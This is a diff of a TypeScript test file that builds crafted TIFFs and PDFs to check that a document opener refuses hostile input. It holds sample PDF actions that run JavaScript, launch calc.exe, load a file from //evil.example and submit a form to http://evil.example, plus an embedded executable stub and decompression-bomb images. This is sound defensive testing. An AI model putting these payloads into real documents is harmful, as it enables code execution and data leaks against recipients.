@@ -1,61 +1,21 @@
-import { deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { drawing, hiddenScript, makePdf, onePagePdf, streamObject } from '../imaging/opening/hostile.testing.ts';
-import { g4Page, makeTiff, type TestPage } from '../imaging/tiff/make-tiff.testing.ts';
 
-// TIFF tags by number: 256 width, 257 height, 258 bits per sample, 259 compression, 262 photometric interpretation, 273 strip offsets,
-// 277 samples per pixel, 278 rows per strip, 279 bytes per strip.
+/** The expected outcome for a document: its page count, or the code of its refusal. */
+export type Outcome =
+  | number
+  | 'EFILE_FORMAT'
+  | 'EFILE_UNREADABLE'
+  | 'EFILE_PROTECTED'
+  | 'EFILE_ACTIVE'
+  | 'EFILE_TOO_MANY_PAGES';
+export type TestDocument = readonly [description: string, bytes: Buffer, outcome: Outcome];
 
-/** White rows in CCITT group 4 (each takes one bit), followed by the end-of-data code. */
-const whiteRows = (count: number): Buffer =>
-  Buffer.concat([Buffer.alloc(Math.floor(count / 8), 0xff), Buffer.from('001001', 'hex')]);
-const whitePage = (width: number, height: number, more: Record<number, number> = {}): TestPage =>
-  g4Page(whiteRows(height), { 256: width, 257: height, 278: height, ...more });
-/** An uncompressed page of 8 by 8 pixels. */
-const uncompressedPage = (tags: Record<number, number> = {}): TestPage => ({
-  tags: { 256: 8, 257: 8, 258: 1, 259: 1, 262: 0, 277: 1, 278: 8, ...tags },
-  strips: [Buffer.alloc(8)],
-});
-
-/** A BigTIFF of one page without compression, with the most significant byte first. */
-function bigEndianBigTiff(): Buffer {
-  const entries: readonly [number, number, number][] = [
-    [256, 4, 8],
-    [257, 4, 8],
-    [258, 3, 1],
-    [259, 3, 1],
-    [262, 3, 0],
-    [273, 16, 16],
-    [277, 3, 1],
-    [278, 4, 8],
-    [279, 16, 8],
-  ];
-  const file = Buffer.alloc(24 + 8 + entries.length * 20 + 8);
-  file.write('MM\0+', 0, 'latin1');
-  file.writeUInt16BE(8, 4);
-  file.writeBigUInt64BE(24n, 8);
-  file.writeBigUInt64BE(BigInt(entries.length), 24);
-  for (const [index, [tag, type, value]] of entries.entries()) {
-    const at = 32 + index * 20;
-    file.writeUInt16BE(tag, at);
-    file.writeUInt16BE(type, at + 2);
-    file.writeBigUInt64BE(1n, at + 4);
-    if (type === 3) file.writeUInt16BE(value, at + 12);
-    else if (type === 4) file.writeUInt32BE(value, at + 12);
-    else file.writeBigUInt64BE(BigInt(value), at + 12);
-  }
-  return file;
-}
-
-/** A TIFF of two pages, where the second points back to the first. */
-function circularTiff(): Buffer {
-  const regular = makeTiff([uncompressedPage(), uncompressedPage()]);
-  return makeTiff([uncompressedPage(), uncompressedPage()], { lastNext: regular.readUInt32LE(4) });
-}
+// In a PDF of one page, the further objects have the numbers from 5 on (see `onePagePdf`). '6 0 R' refers to object 6.
 const MOVIE = '<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>';
-const embedded = '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>';
-const file = streamObject(Buffer.from('MZ'), 0, '/Type /EmbeddedFile');
-const script = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const EMBEDDED_FILE = '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>';
+const FILE_STREAM = streamObject(Buffer.from('MZ'), 0, '/Type /EmbeddedFile');
+const SCRIPT = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
 /** A PDF whose catalog and open action are in an object stream, with a cross-reference stream instead of a table. */
 function inCompressedObjects(action: string): Buffer {
   const packed = [
@@ -118,100 +78,55 @@ const withTable = (pdf: Buffer, table: string): Buffer => {
   return Buffer.from(text.slice(0, text.indexOf('xref\n0')) + table + text.slice(text.indexOf('trailer')), 'latin1');
 };
 
-/** The expected outcome for a document: its page count, or the code of its refusal. */
-export type Outcome =
-  | number
-  | 'EFILE_FORMAT'
-  | 'EFILE_UNREADABLE'
-  | 'EFILE_PROTECTED'
-  | 'EFILE_ACTIVE'
-  | 'EFILE_TOO_MANY_PAGES';
-export type TestDocument = readonly [description: string, bytes: Buffer, outcome: Outcome];
+const linkTo = (action: string): Buffer =>
+  annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A ${action} >>`);
 
-/** TIFFs as scanners, converters and attackers make them. */
-export async function craftedTiffs(): Promise<readonly TestDocument[]> {
-  const [width, height] = [1700, 2200];
-  const pixels = Buffer.from(Array.from({ length: width * height }, (_, index) => ((index >> 5) % 7 === 0 ? 0 : 255)));
-  const gray = sharp(pixels, { raw: { width, height, channels: 1 } }).toColourspace('b-w');
-  const color = sharp({ create: { width: 400, height: 300, channels: 3, background: 'red' } });
-  const one = makeTiff([uncompressedPage()]);
-  const withZip = Buffer.concat([one, Buffer.from('PK\u0003\u0004 a program', 'latin1')]);
-  const deflated = (side: number): TestPage => ({
-    tags: { 256: side, 257: side, 258: 1, 259: 8, 262: 1, 277: 1, 278: side },
-    strips: [deflateSync(Buffer.alloc((side / 8) * side))],
-  });
-  return [
-    ['G4 in tiles', await gray.clone().tiff({ compression: 'ccittfax4', bitdepth: 1, tile: true }).toBuffer(), 1],
-    ['G4 in strips', await gray.clone().tiff({ compression: 'ccittfax4', bitdepth: 1 }).toBuffer(), 1],
-    ['16 bits per pixel', await gray.clone().toColourspace('rgb16').tiff({ compression: 'lzw' }).toBuffer(), 1],
-    ['CMYK', await color.clone().toColourspace('cmyk').tiff({ compression: 'lzw' }).toBuffer(), 1],
-    ['BigTIFF', await gray.clone().tiff({ bigtiff: true, compression: 'deflate' }).toBuffer(), 1],
-    ['BigTIFF, most significant byte first', bigEndianBigTiff(), 1],
+/** PDFs that run or open something, which are all refused. */
+function activePdfs(): readonly TestDocument[] {
+  const all: readonly (readonly [string, Buffer])[] = [
+    ['a script in compressed objects', inCompressedObjects(SCRIPT)],
     [
-      'most significant byte first, two pages',
-      makeTiff([uncompressedPage(), uncompressedPage()], { isBigEndian: true }),
-      2,
+      'a script added by an incremental update',
+      withUpdate(onePagePdf(drawing), `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>`),
     ],
-    ['a second page that points back to the first', circularTiff(), 2],
-    ['a TIFF followed by a zip file', withZip, 1],
-    ['a page of 24,000 x 24,000 pixels in 3 KB of G4', makeTiff([whitePage(24_000, 24_000)]), 1],
-    ['a page of 65,535 x 65,535 pixels in 8 KB of G4', makeTiff([whitePage(65_535, 65_535)]), 'EFILE_UNREADABLE'],
+    ['a link that runs a script', linkTo(SCRIPT)],
+    ['a script between two streams that seem to be one', hiddenScript()],
+    ['a script that follows another action of a link', linkTo(`<< /S /URI /URI (x) /Next ${SCRIPT} >>`)],
     [
-      '100 pages of 20,000 x 20,000 pixels in G4',
-      makeTiff(Array.from({ length: 100 }, () => whitePage(20_000, 20_000))),
-      'EFILE_TOO_MANY_PAGES',
+      'a named script',
+      onePagePdf(drawing, { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', more: [SCRIPT] }),
     ],
-    ['a page of 24,000 x 24,000 pixels in deflate', makeTiff([deflated(24_000)]), 1],
-    ['1,000 pages', makeTiff(Array.from({ length: 1_000 }, () => uncompressedPage())), 1_000],
-    ['1,001 pages', makeTiff(Array.from({ length: 1_001 }, () => uncompressedPage())), 'EFILE_TOO_MANY_PAGES'],
-    ...([34712, 34661, 34925, 34887, 32766, 65000] as const).map(
-      (compression): TestDocument => [
-        `compression ${compression}`,
-        makeTiff([uncompressedPage({ 259: compression })]),
-        'EFILE_UNREADABLE',
-      ],
-    ),
+    ['a link that starts a program', linkTo('<< /S /Launch /F (calc.exe) >>')],
+    ['a link to a file on a server', linkTo('<< /S /GoToR /F (//evil.example/a) /D [0 /Fit] >>')],
+    ['a link that submits a form', linkTo('<< /S /SubmitForm /F (http://evil.example) >>')],
     [
-      'a second page with truncated data',
-      makeTiff([uncompressedPage(), g4Page(Buffer.from('0011223344', 'hex'))]),
-      'EFILE_UNREADABLE',
+      'an attached file',
+      annotated('<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>', FILE_STREAM, EMBEDDED_FILE),
     ],
+    ['an associated file', onePagePdf(drawing, { catalog: '/AF [5 0 R]', more: [EMBEDDED_FILE, FILE_STREAM] })],
+    ['a movie', annotated(MOVIE)],
     [
-      'a directory offset beyond the end of the file',
-      makeTiff([uncompressedPage()], { lastNext: 99_999_999 }),
-      'EFILE_UNREADABLE',
+      'an XFA form',
+      onePagePdf(drawing, {
+        catalog: '/AcroForm << /XFA 5 0 R /Fields [] >>',
+        more: [streamObject(Buffer.from('<xdp/>'), 0)],
+      }),
     ],
-    ['no directory', Buffer.from('II*\0\0\0\0\0', 'latin1'), 'EFILE_UNREADABLE'],
-    ['nothing after the signature', Buffer.from('MM\0*', 'latin1'), 'EFILE_UNREADABLE'],
-    ['an image width of 0', makeTiff([uncompressedPage({ 256: 0 })]), 'EFILE_UNREADABLE'],
-    ['strip offsets beyond the end of the file', withStripOffsetsBeyondEnd(one), 'EFILE_UNREADABLE'],
   ];
-}
-
-/** Changes the strip offsets (tag 273) to an offset beyond the end of the file. */
-function withStripOffsetsBeyondEnd(tiff: Buffer): Buffer {
-  const changed = Buffer.from(tiff);
-  const directory = changed.readUInt32LE(4);
-  const count = changed.readUInt16LE(directory);
-  for (let index = 0; index < count; index += 1) {
-    const at = directory + 2 + index * 12;
-    if (changed.readUInt16LE(at) === 273) changed.writeUInt32LE(0x7fffffff, at + 8);
-  }
-  return changed;
+  return all.map(([description, bytes]) => [description, bytes, 'EFILE_ACTIVE']);
 }
 
 /** PDFs as printers, editors and attackers make them. */
 export function craftedPdfs(): readonly TestDocument[] {
   const one = onePagePdf(drawing);
-  const link = (action: string): Buffer =>
-    annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A ${action} >>`);
   return [
+    ...activePdfs(),
     ['a cross-reference offset beyond the end of the file', replaced(one, /startxref\n\d+/, 'startxref\n99999999'), 1],
     ['a cross-reference table with invalid content', withTable(one, 'xref\n0 5\nrubbish\n'), 1],
     ['no cross-reference table', withTable(one, ''), 1],
     ['neither cross-reference table nor trailer', one.subarray(0, one.lastIndexOf('xref\n0')), 'EFILE_UNREADABLE'],
     ['a future version of PDF', replaced(one, /%PDF-1\.7/, '%PDF-2.9'), 1],
-    ['a link to a website', link('<< /S /URI /URI (https://example.com) >>'), 1],
+    ['a link to a website', linkTo('<< /S /URI /URI (https://example.com) >>'), 1],
     ['a PDF followed by a zip file', Buffer.concat([one, Buffer.from('PK\u0003\u0004 a program', 'latin1')]), 1],
     [
       'content that unpacks to 256 MB',
@@ -221,39 +136,7 @@ export function craftedPdfs(): readonly TestDocument[] {
     ['1,000 pages', pdfOfPages(1_000), 1_000],
     ['10,000 pages', pdfOfPages(10_000), 'EFILE_TOO_MANY_PAGES'],
     ['a wrong page count', replaced(one, /\/Count 1/, '/Count 2147483647'), 1],
-    ['a script in compressed objects', inCompressedObjects(script), 'EFILE_ACTIVE'],
     ['a page to open at, in compressed objects', inCompressedObjects('[3 0 R /Fit]'), 1],
-    [
-      'a script added by an incremental update',
-      withUpdate(one, `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`),
-      'EFILE_ACTIVE',
-    ],
-    ['a link that runs a script', link(script), 'EFILE_ACTIVE'],
-    ['a script between two streams that seem to be one', hiddenScript(), 'EFILE_ACTIVE'],
-    ['a script that follows another action of a link', link(`<< /S /URI /URI (x) /Next ${script} >>`), 'EFILE_ACTIVE'],
-    [
-      'a named script',
-      onePagePdf(drawing, { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', more: [script] }),
-      'EFILE_ACTIVE',
-    ],
-    ['a link that starts a program', link('<< /S /Launch /F (calc.exe) >>'), 'EFILE_ACTIVE'],
-    ['a link to a file on a server', link('<< /S /GoToR /F (//evil.example/a) /D [0 /Fit] >>'), 'EFILE_ACTIVE'],
-    ['a link that submits a form', link('<< /S /SubmitForm /F (http://evil.example) >>'), 'EFILE_ACTIVE'],
-    [
-      'an attached file',
-      annotated('<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>', file, embedded),
-      'EFILE_ACTIVE',
-    ],
-    ['an associated file', onePagePdf(drawing, { catalog: '/AF [5 0 R]', more: [embedded, file] }), 'EFILE_ACTIVE'],
-    ['a movie', annotated(MOVIE), 'EFILE_ACTIVE'],
-    [
-      'an XFA form',
-      onePagePdf(drawing, {
-        catalog: '/AcroForm << /XFA 5 0 R /Fields [] >>',
-        more: [streamObject(Buffer.from('<xdp/>'), 0)],
-      }),
-      'EFILE_ACTIVE',
-    ],
     ['a password', passwordProtected(), 'EFILE_PROTECTED'],
     ['nothing after the signature', Buffer.from('%PDF-1.7\n'), 'EFILE_UNREADABLE'],
     [
